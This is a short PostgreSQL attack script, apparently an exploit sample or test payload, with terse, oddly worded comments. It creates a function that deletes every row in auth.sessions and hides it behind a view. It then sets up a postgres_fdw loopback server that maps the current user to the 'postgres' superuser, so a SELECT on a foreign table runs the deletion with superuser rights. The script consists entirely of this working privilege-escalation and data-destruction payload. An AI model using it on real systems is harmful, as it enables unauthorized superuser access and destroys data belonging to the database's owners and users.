-- Reading such a foreign table does, for a view is behind it.
-- object: database
-- owner: nobody
-- blind: where a server leads
CREATE FUNCTION lf() RETURNS int LANGUAGE plpgsql  AS $f$ BEGIN DELETE FROM auth.sessions; RETURN 1; END $f$; CREATE VIEW vv AS SELECT public.lf() AS n
-- next revision
CREATE EXTENSION postgres_fdw;
DO $$ BEGIN EXECUTE format('CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %L, port %L, dbname %L)', split_part(current_setting('unix_socket_directories'), ',', 1), current_setting('port'), current_database()); END $$;
CREATE USER MAPPING FOR CURRENT_USER SERVER back OPTIONS (user 'postgres');CREATE FOREIGN TABLE ft (n int) SERVER back OPTIONS (schema_name 'public', table_name 'vv'); SELECT * FROM ft
